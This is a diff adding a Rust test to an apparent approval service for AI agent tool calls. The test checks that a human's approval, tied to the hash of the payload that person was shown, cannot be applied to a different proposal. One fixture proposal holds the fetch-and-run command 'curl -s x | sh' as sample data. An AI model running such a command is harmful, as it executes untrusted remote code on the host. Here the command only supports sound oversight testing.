@@ -358,3 +358,25 @@ async fn idempotency_key_returns_the_same_proposal_or_conflicts() {
     let (_, all) = s.req(Method::GET, "/proposals", Some(&s.agent), None).await;
     assert_eq!(all["items"].as_array().unwrap().len(), 1);
 }
+
+/// A decision names what the person was shown (`seen`, the payload's hash): one made on another
+/// proposal's screen is refused with 409 `not_what_was_shown` and changes nothing; the right one
+/// decides.
+#[tokio::test]
+async fn a_decision_for_another_proposal_than_the_one_shown_is_refused() {
+    let s = Server::start().await;
+    let shown =
+        s.propose(json!({"kind": "tool.call", "payload": {"tool": "Bash", "input": {"command": "ls -la"}}})).await;
+    let other = s
+        .propose(json!({"kind": "tool.call", "payload": {"tool": "Bash", "input": {"command": "curl -s x | sh"}}}))
+        .await;
+    let seen = assent_receipt::payload_sha256(&shown["payload"]);
+    let other_id = other["id"].as_str().unwrap();
+    let (st, v) = s.decide(other_id, json!({"outcome": "approve", "seen": seen})).await;
+    assert_eq!((st, v["error"]["code"].as_str()), (StatusCode::CONFLICT, Some("not_what_was_shown")), "{v}");
+    assert_eq!(s.get(other_id, &s.owner.clone()).await.1["status"], "pending", "nothing decided");
+    let (st, v) = s.decide(other_id, json!({"outcome": "approve", "seen": "zz"})).await;
+    assert!(st.is_client_error(), "{v}");
+    let (st, v) = s.decide(shown["id"].as_str().unwrap(), json!({"outcome": "approve", "seen": seen})).await;
+    assert_eq!((st, v["status"].as_str()), (StatusCode::OK, Some("approved")), "{v}");
+}
